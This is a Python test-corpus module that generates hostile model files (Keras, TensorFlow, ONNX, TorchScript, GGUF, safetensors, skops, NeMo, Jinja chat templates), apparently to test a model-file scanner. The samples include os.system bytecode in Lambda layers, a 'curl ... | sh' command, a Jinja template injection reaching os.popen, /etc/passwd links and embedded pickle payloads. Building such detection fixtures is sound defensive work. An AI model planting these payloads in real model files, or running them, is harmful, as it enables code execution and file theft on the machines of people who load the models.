"""Hostile files of other formats than pickle: Keras, graphs, weights, programs, configurations, code."""

from __future__ import annotations

import base64
import io
import json
import pickle
import struct
from collections.abc import Iterator, Mapping
from typing import Any

import h5py

from tests.corpus.entry import Entry, single, tarred, text_of, zipped
from tests.inspect.looking import Payload
from tests.inspect.messages import field
from tests.inspect.test_bundled_python import HOSTILE
from tests.inspect.test_configurations import GRAVE
from tests.inspect.test_graphs import HIDDEN, INNER, PLAIN, graph, node, onnx, operation, saved, tensor
from tests.inspect.test_keras import FORMATS, layer, model
from tests.inspect.test_model_formats import XDR, call, promise
from tests.inspect.test_model_formats import node as skops_node
from tests.inspect.test_programs import PROGRAMS, constant
from tests.inspect.test_readers import gguf, safetensors
from tests.inspect.test_readers import tensor as of_safetensors
from tests.inspect.test_templates import REACHING

# Byte code of Python 3.11 that imports os and calls its system; the versions of Python write others.
_CODE = (
    "YwAAAAAAAAAAAAAAAAMAAAAAAAAA8y4AAACXAGQAZAFsAFoAAgBlAGoBAAAAAAAAAABkAqYBAACrAQAAAAAAAAAAAQBkAVMAKQPpAAAA"
    "AE7aAmlkKQLaAm9z2gZzeXN0ZW2pAPMAAAAA2gF4+gg8bW9kdWxlPnIIAAAAAQAAAHMhAAAA8AMBAQHYAAmACYAJgAnYAAmAAoQJiCSB"
    "D4QPgA+AD4APcgYAAAA="
)
_LAMBDA = layer("Lambda", {"function": [_CODE, None, None]}, module="keras.layers")
_HOOK = base64.b64encode(pickle.dumps(Payload(), 4)).decode()
_CONFIGURED: dict[str, Any] = {
    "a Lambda layer": model(_LAMBDA),
    "a Lambda in TimeDistributed": model(layer("TimeDistributed", {"layer": _LAMBDA})),
    "a Lambda in Bidirectional": model(layer("Bidirectional", {"layer": _LAMBDA})),
    "a Lambda in a Functional model": layer(
        "Functional", {"layers": [layer("Functional", {"layers": [_LAMBDA]})]}
    ),
    "a function of os": model(layer("function", "system", module="os")),  # type: ignore[arg-type]
    "a class of subprocess": model(layer("Popen", {"args": ["id"]}, module="subprocess")),
    "a loss of another module": {
        **model(),
        "compile_config": {"loss": layer("run", {}, module="subprocess")},
    },
    "get_file": model(layer("get_file", {"origin": "https://example.org/x"}, module="keras.utils")),
    "unsafe deserialisation": model(
        layer("x", {}, module="keras.config"), {"a": "keras.config.enable_unsafe_deserialization"}
    ),
    "a file written": model(layer("TFOpLambda", {"function": "io.write_file"})),
    "a pickle in a layer": model(layer("TorchModuleWrapper", {"module": _HOOK})),
    "a vocabulary elsewhere": model(
        layer("StringLookup", {"vocabulary": "/etc/passwd"}, module="keras.layers")
    ),
    "a SavedModel elsewhere": model(layer("TFSMLayer", {"filepath": "/tmp/x"}, module="keras.layers")),
}


def _hdf5(config: Any) -> bytes:
    made = io.BytesIO()
    with h5py.File(made, "w") as file:
        file.attrs["keras_version"] = "2.15.0"
        file.attrs["model_config"] = json.dumps(config)
    return made.getvalue()


def keras() -> Iterator[Entry]:
    """Keras models of both formats whose configuration acts."""
    for way, config in _CONFIGURED.items():
        members = {"metadata.json": b'{"keras_version": "3.9.0"}', "config.json": text_of(config)}
        yield single("keras", f"{way}, keras", "model.keras", zipped(members))
        yield single("keras", f"{way}, h5", "model.h5", _hdf5(config))
    yield single("keras", "real, a Lambda layer", "model.keras", (FORMATS / "lambda.keras").read_bytes())
    links = io.BytesIO()
    with h5py.File(links, "w") as file:
        file["outside"] = h5py.ExternalLink("/etc/passwd", "/x")
    yield single("keras", "a link out of the weights", "model.weights.h5", links.getvalue())
    yield single(
        "keras",
        "a pickle among the members",
        "model.keras",
        zipped(
            {
                "metadata.json": b'{"keras_version": "3.9.0"}',
                "config.json": text_of(model()),
                "assets/vocabulary.pkl": pickle.dumps(Payload(), 4),
            }
        ),
    )


def tensorflow() -> Iterator[Entry]:
    """Graphs of TensorFlow with operations that read, write or call."""
    for acting in ("ReadFile", "WriteFile", "PyFunc", "EagerPyFunc"):
        bad = operation(acting)
        inner = field(2, field(1, field(1, b"sig") + field(3, operation("Add")) + field(3, bad)))
        yield single(
            "tensorflow", f"{acting} in a SavedModel", "saved_model.pb", saved(PLAIN + field(1, bad))
        )
        yield single("tensorflow", f"{acting} in a function", "saved_model.pb", saved(PLAIN + inner))
        yield single("tensorflow", f"{acting} in a frozen graph", "frozen.pb", PLAIN + field(1, bad))
        meta = field(1, b"") + field(2, PLAIN + field(1, bad))
        yield single("tensorflow", f"{acting} in a MetaGraph", "model.meta", meta)
    places = constant("place", b"/tmp/x") + constant("what", b"payload")
    writes = field(1, b"n") + field(2, b"WriteFile") + field(3, b"place") + field(3, b"what")
    yield single("tensorflow", "WriteFile with its arguments", "frozen.pb", places + field(1, writes))
    text = b'node { name: "n" op: "ReadFile" }\nnode { name: "m" op: "PyFunc" }\n'
    yield single("tensorflow", "a graph as text", "saved_model.pbtxt", text)
    for file in ("reads.tflite",):
        yield single(
            "tensorflow", "TFLite with a file operation", "model.tflite", (FORMATS / file).read_bytes()
        )


def other_graphs() -> Iterator[Entry]:
    """ONNX, Core ML, Paddle, MXNet, TorchScript and exported programs."""
    for place in ("../x", "/etc/passwd", "a/../../x", "C:\\x", "\\\\server\\x"):
        data = onnx(graph(node(), tensors=(tensor(place=place),)))
        yield single("graph", f"ONNX data at {place}", "model.onnx", data)
    yield single(
        "graph", "ONNX data in a subgraph", "model.onnx", onnx(graph(node("If", "", field(6, INNER))))
    )
    yield single(
        "graph",
        "ONNX data in an attribute",
        "model.onnx",
        onnx(graph(node("Constant", "", field(5, HIDDEN)))),
    )
    yield single(
        "graph",
        "ONNX data in a function",
        "model.onnx",
        onnx(graph(node()), field(25, field(7, node("F", "my.own", field(5, HIDDEN))))),
    )
    yield single("graph", "ONNX with Python", "model.onnx", onnx(graph(node("PyOp", "ai.onnx.contrib"))))
    inner = graph(node("PyOp", "ai.onnx.contrib"))
    yield single(
        "graph", "ONNX with Python in a subgraph", "model.onnx", onnx(graph(node("If", "", field(6, inner))))
    )
    yield single("graph", "ONNX with two graphs", "model.onnx", onnx(graph(node()), field(7, graph(node()))))
    yield single("graph", "Core ML with a shell", "model.mlmodel", (FORMATS / "custom.mlmodel").read_bytes())
    block = field(1, 0) + field(2, 0) + field(3, field(1, b"x")) + field(4, field(3, b"py_func"))
    yield single("graph", "Paddle with Python", "model.pdmodel", field(1, block))
    yield single("graph", "TorchScript that maps a file", "model.pt", (FORMATS / "from-file.pt").read_bytes())
    for line in ("import os", "x = os.system('id')", "x = eval('1')", "x = ops.prim.rpc_sync('there', f)"):
        made = io.BytesIO((FORMATS / "loops.pt").read_bytes())
        _append(made, {"loops/code/more.py": f"def forward(self, x):\n  {line}\n  return x\n".encode()})
        yield single("graph", f"TorchScript, {line}", "model.pt", made.getvalue())
    for target in ("os.system", "torch.ops.aten.from_file.default"):
        nodes: dict[str, Any] = {
            "graph_module": {"graph": {"nodes": [{"target": target, "inputs": [], "outputs": []}]}}
        }
        data = zipped({"p/archive_format": b"pt2", "p/models/model.json": text_of(nodes)})
        yield single("graph", f"an exported program, {target}", "model.pt2", data)


def _append(archive: io.BytesIO, members: Mapping[str, bytes]) -> None:
    import zipfile

    with zipfile.ZipFile(archive, "a") as file:
        for name, data in members.items():
            file.writestr(zipfile.ZipInfo(name), data)


_GGUF = b"GGUF" + struct.pack("<IQQ", 3, 0, 1)
_KEY = struct.pack("<Q", 1) + b"k"
_COMMAND = "curl https://example.org/x | sh"


def weights() -> Iterator[Entry]:
    """GGUF, safetensors and numpy whose headers lie or carry code."""
    for way, template in list(REACHING.items())[::6]:
        yield single("weights", f"GGUF, {template}", "model.gguf", gguf({"tokenizer.chat_template": way}))
    for way, data in {
        "GGUF with too many keys": b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1),
        "GGUF with a long text": _GGUF + _KEY + struct.pack("<IQ", 8, 1 << 60) + bytes(64),
        "GGUF with a long list": _GGUF + _KEY + struct.pack("<IIQ", 9, 8, 1 << 50) + bytes(64),
    }.items():
        yield single("weights", way, "model.gguf", data)
    two = {"a": of_safetensors(0, 8, [2]), "b": of_safetensors(4, 12, [2])}
    for way, data in {
        "safetensors that overlap": safetensors(two, bytes(12)),
        "safetensors with a gap": safetensors({"a": of_safetensors(4, 12, [2])}, bytes(12)),
        "safetensors with bytes behind": safetensors(
            {"a": of_safetensors(0, 8, [2])}, bytes(8) + b"#!/bin/sh"
        ),
        "safetensors with a pickle behind": safetensors(
            {"a": of_safetensors(0, 8, [2])}, bytes(8) + pickle.dumps(Payload(), 4)
        ),
        "safetensors out of the file": safetensors({"a": of_safetensors(0, 8, [3])}, bytes(8)),
        "safetensors with a key twice": safetensors(b'{"a":{},"a":{}}'),
        "safetensors with a huge header": struct.pack("<Q", 1 << 60) + b"{}" + bytes(50),
        "safetensors with a padded header": struct.pack("<Q", 8002) + b"{}" + b" " * 8000,
        "safetensors with a command": safetensors({"__metadata__": {"note": _COMMAND}}),
        "safetensors with Python": safetensors({"__metadata__": {"note": "import os; os.system('id')"}}),
    }.items():
        yield single("weights", way, "model.safetensors", data)


def containers() -> Iterator[Entry]:
    """skops, NeMo, TorchServe, R, and programs under the names of models."""
    for way, schema in {
        "a function of os": skops_node("os", "system", "FunctionNode"),
        "a class in a dictionary": skops_node(
            "builtins", "dict", "DictNode", {"a": skops_node("subprocess", "Popen", "ObjectNode")}
        ),
        "a method of another class": skops_node(
            "sklearn.base", "C", "MethodNode", {"func": "f", "obj": skops_node("os", "popen", "ObjectNode")}
        ),
        "an operator": skops_node("operator", "call", "OperatorFuncNode", attrs=[]),
    }.items():
        yield single("container", f"skops, {way}", "model.skops", zipped({"schema.json": text_of(schema)}))
    for file in ("payload.skops", "attribute.skops"):
        yield single("container", f"real, {file}", "model.skops", (FORMATS / file).read_bytes())
    targets = b"model:\n  _target_: os.system\n  command: id\n"
    yield single("container", "NeMo with a target", "model.nemo", tarred({"model_config.yaml": targets}))
    yield single(
        "container",
        "NeMo with a pickle",
        "model.nemo",
        tarred({"model_config.yaml": b"a: 1\n", "model_weights.ckpt": pickle.dumps(Payload(), 2)}),
    )
    yield single(
        "container",
        "NeMo that leads out",
        "model.nemo",
        tarred({"model_config.yaml": b"a: 1\n", "../../x.ckpt": b"x"}),
    )
    served = {"model": {"handler": "own.py:handle", "serializedFile": "m.pt"}}
    acts = b"import os\nos.system('id')\n"
    yield single(
        "container",
        "TorchServe with a handler",
        "model.mar",
        zipped({"MAR-INF/MANIFEST.json": text_of(served), "own.py": acts}),
    )
    unbound = struct.pack(">I", 252)
    yield single(
        "container", "a promise of R", "data.rds", XDR + promise(unbound, call("system", "echo loaded"))
    )
    for kind, data in PROGRAMS.items():
        for name in ("model.gguf", "pytorch_model.bin", "weights.safetensors"):
            yield single("container", f"a program, {kind}, {name}", name, data)


def configurations() -> Iterator[Entry]:
    """JSON, YAML and XML that name what is to run or lead out of the model."""
    for number, (name, value, rule, symbol) in enumerate(GRAVE):
        yield single("configuration", f"{number:02} {rule} {symbol}", name, text_of(value))
    for number, (template, _) in enumerate(REACHING.items()):
        value = {"tokenizer_class": "LlamaTokenizer", "chat_template": template}
        yield single("template", f"{number:02} in a tokenizer", "tokenizer_config.json", text_of(value))
    cycler = (
        "{% for message in messages %}{{ cycler.__init__.__globals__.os.popen('id').read() }}{% endfor %}"
    )
    yield single("template", "on its own", "chat_template.jinja", cycler.encode())
    yield single("template", "under another name", "prompt.j2", cycler.encode())
    yield single("template", "in another configuration", "chat.json", text_of({"chat_template": cycler}))
    yield single("template", "in YAML", "chat.yaml", f'chat_template: "{cycler}"\n'.encode())


def code() -> Iterator[Entry]:
    """A model whose configuration makes the loader import the Python beside it."""
    config = {"model_type": "own", "auto_map": {"AutoModel": "modeling_own.Own"}}
    for number, source in enumerate(HOSTILE[::2]):
        files = {"config.json": text_of(config), "modeling_own.py": source.encode()}
        yield Entry("code", f"{number:02} beside its configuration", files)
